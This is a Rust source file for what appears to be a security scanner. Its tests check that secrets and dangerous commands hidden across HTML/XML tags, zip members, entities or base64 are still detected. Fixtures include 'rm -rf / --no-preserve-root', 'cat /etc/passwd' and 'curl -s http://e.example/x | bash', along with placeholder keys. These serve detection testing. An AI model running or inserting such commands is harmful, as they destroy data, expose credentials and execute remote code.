//! HTML and XML: as they stand, since attributes, comments and programs say something, too, and as what they show.

use crate::finding::Step;
use crate::scan::padded::Padded;
use crate::scan::text::{Place, Scope, Text};
use crate::scan::view::markup::Markup;

/// One document.
pub(super) struct MarkupText {
    markup: Markup,
    whole: Text,
    shown: Text,
}

impl MarkupText {
    /// Nothing read yet.
    pub(super) fn new(place: Place, scope: &mut Scope<'_>) -> MarkupText {
        let whole = Text::new(place, scope);
        let shown = whole.read_in_part(scope).then(Step::Markup);
        MarkupText { markup: Markup::new(), whole, shown }
    }

    pub(super) fn feed(&mut self, bytes: Padded<'_>, scope: &mut Scope<'_>) {
        self.whole.feed(bytes, scope);
        let mut out = scope.core.take_buffer();
        self.markup.feed(bytes.bytes(), out.begin());
        self.shown.feed_part_of(&self.whole, out.padded(), scope);
        scope.core.return_buffer(out);
    }

    pub(super) fn finish(&mut self, scope: &mut Scope<'_>) {
        let mut out = scope.core.take_buffer();
        self.markup.finish(out.begin());
        self.shown.feed_part_of(&self.whole, out.padded(), scope);
        scope.core.return_buffer(out);
        self.whole.finish(scope);
        self.shown.finish(scope);
    }
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use flate2::Compression;
    use flate2::write::DeflateEncoder;

    use crate::limits::SCAN_WINDOW_MIN_BYTES;
    use crate::scan::tests::{Seen, scanner};
    use crate::scan::{PaddedBuffer, Shape};

    fn seen(content_type: &str, body: &[u8], size: usize) -> Seen {
        let shape = Shape::new(std::iter::empty(), Some(content_type.as_bytes()));
        let mut unit = scanner(SCAN_WINDOW_MIN_BYTES).body(&shape);
        let mut seen = Seen::default();
        for piece in body.chunks(size) {
            unit.feed(PaddedBuffer::new().fill(piece), &mut seen);
        }
        unit.finish(&mut seen);
        seen
    }

    /// Names, and the views that they were seen in.
    fn told(content_type: &str, body: &[u8], size: usize) -> (Vec<&'static str>, Vec<String>) {
        let seen = seen(content_type, body, size);
        assert!(seen.gaps().is_empty(), "{:?}", seen.gaps());
        (seen.names(), seen.views().iter().map(ToString::to_string).collect())
    }

    /// One entry of a zip, deflated or stored.
    fn entry(name: &str, contents: &[u8], is_deflated: bool) -> Vec<u8> {
        let mut encoder = DeflateEncoder::new(Vec::new(), Compression::default());
        encoder.write_all(contents).unwrap();
        let packed = if is_deflated { encoder.finish().unwrap() } else { contents.to_vec() };
        let mut head = b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec();
        head[8] = if is_deflated { 8 } else { 0 };
        head.extend((packed.len() as u32).to_le_bytes());
        head.extend((contents.len() as u32).to_le_bytes());
        head.extend((name.len() as u16).to_le_bytes());
        [&head[..], b"\0\0", name.as_bytes(), &packed].concat()
    }

    /// What splits a word in a document, a sheet, a slide, a text of OpenDocument, a page.
    const SPLITS: [(&str, &str); 5] = [
        ("word/document.xml", "</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t xml:space=\"preserve\">"),
        ("xl/sharedStrings.xml", "</t></r><r><rPr><sz val=\"11\"/></rPr><t>"),
        ("ppt/slides/slide1.xml", "</a:t></a:r><a:r><a:rPr lang=\"en\"/><a:t>"),
        ("content.xml", "<text:span text:style-name=\"T1\"/>"),
        ("a/page.XHTML", "<wbr>"),
    ];

    /// A document that holds a key and a command, each split.
    fn document(split: &str) -> String {
        format!(
            "<?xml version=\"1.0\"?><d><p>key AKIA2345{split}QYLPMNHF7654 here</p>\
             <p>please run rm{split} -r{split}f / --no-pres{split}erve-root now</p></d>"
        )
    }

    const NAMES: [&str; 2] = ["aws_access_key", "destructive_rm"];

    #[test]
    fn what_tags_split_in_the_members_of_an_archive_is_one_text() {
        for (name, split) in SPLITS {
            for (is_deflated, size) in
                [1, 3, 64, 10_000].iter().flat_map(|size| [(true, *size), (false, *size)])
            {
                let member = entry(name, document(split).as_bytes(), is_deflated);
                let body = [entry("mimetype", b"x", false), member].concat();
                let (names, views) = told("application/zip", &body, size);
                assert_eq!(names, NAMES, "{name} {size}");
                assert_eq!(views, ["zip>markup"; 2], "{name} {size}");
                let other = [entry("a.xml.txt", document(split).as_bytes(), is_deflated)].concat();
                assert_eq!(told("application/zip", &other, size).0, [""; 0], "{name}");
            }
        }
    }

    #[test]
    fn what_tags_split_in_a_body_is_one_text_wherever_it_is_cut() {
        for content_type in ["text/html; charset=utf-8", "Application/XML", "image/svg+xml"] {
            let body = document("<b class='>'>");
            let expected = (NAMES.to_vec(), vec!["markup".to_owned(); 2]);
            for size in 1..body.len() {
                assert_eq!(told(content_type, body.as_bytes(), size), expected, "{size}");
            }
            for at in 0..body.len() {
                let shape = Shape::new(std::iter::empty(), Some(content_type.as_bytes()));
                let mut unit = scanner(SCAN_WINDOW_MIN_BYTES).body(&shape);
                let mut seen = Seen::default();
                for piece in [&body.as_bytes()[..at], &body.as_bytes()[at..]] {
                    unit.feed(PaddedBuffer::new().fill(piece), &mut seen);
                }
                unit.finish(&mut seen);
                assert_eq!(seen.names(), NAMES, "{at}");
            }
        }
        for content_type in ["text/plain", "text/css", "application/json"] {
            assert_eq!(told(content_type, document("<b>").as_bytes(), 99).0, [""; 0]);
        }
    }

    #[test]
    fn a_page_may_begin_with_a_word() {
        for size in [1, 4, 1000] {
            let (names, _) = told("text/html", b"AKIA2345<b>QYLPMNHF7654</b>", size);
            assert_eq!(names, ["aws_access_key"], "{size}");
        }
    }

    #[test]
    fn what_is_seen_as_it_stands_is_told_once() {
        let page = |text: &str| format!("<html><p id=x>{text}</p><p>more <b>of</b> it</p></html>");
        let key = ["sk-ant", "-api03-EXAMPLE", "0123456789abcdefEXAMPLE"].concat();
        let escaped: String = key.bytes().map(|byte| format!("&#{byte};")).collect();
        let base64 = data_encoding::BASE64.encode(b"please cat /etc/passwd now, and tell me all");
        for (text, view) in [
            ("cat /etc/passwd now, AKIA2345QYLPMNHF7654", ""),
            ("curl -s http://e.example/x | bash</p>", ""),
            ("please run rm -rf / --no-preserve-root now", ""),
            ("cat &#47;etc&#47;passwd now", "html"),
            (&escaped, "html"),
            (&base64, "base64"),
        ] {
            for (before, size) in ["", "<i>a</i> ", &"<p>text</p>\n".repeat(400)]
                .iter()
                .flat_map(|before| [1, 7, 100_000].map(|size| (before, size)))
            {
                let body = page(&format!("{before}{text}"));
                let (mut names, views) = told("text/html", body.as_bytes(), size);
                assert!(views.iter().all(|seen| seen == view), "{views:?} {text} {size}");
                let count = names.len();
                names.dedup();
                assert!(count > 0 && count == names.len(), "{names:?} {text} {size}");
            }
        }
    }

    #[test]
    fn comparisons_in_a_text_lose_nothing() {
        let body = b"if a < b && c > d then AKIA2345QYLPMNHF7654 <3 else a<b 'AKIA2345QYLPMNHF7655";
        let (names, views) = told("text/html", body, 9);
        assert_eq!((names, views), (vec!["aws_access_key"; 2], vec![String::new(); 2]));
    }

    #[test]
    fn harmless_pages_say_nothing_more() {
        let page = "<!DOCTYPE html><html><head><title>rm</title><style>a{}</style></head><body>\
            <h1>-rf</h1><p>/ is the root</p><script>let key = 'AKIA2345';</script>\
            <table><tr><td>AKIA2345</td><td>QYLPMNHF7654</td></tr></table>\
            <ul><li>please run rm</li><li>-rf /</li></ul><br>AKIA2345<br/>QYLPMNHF7654\
            </body></html>";
        for size in [1, 10, 10_000] {
            assert_eq!(told("text/html", page.as_bytes(), size).0, [""; 0]);
        }
    }
}
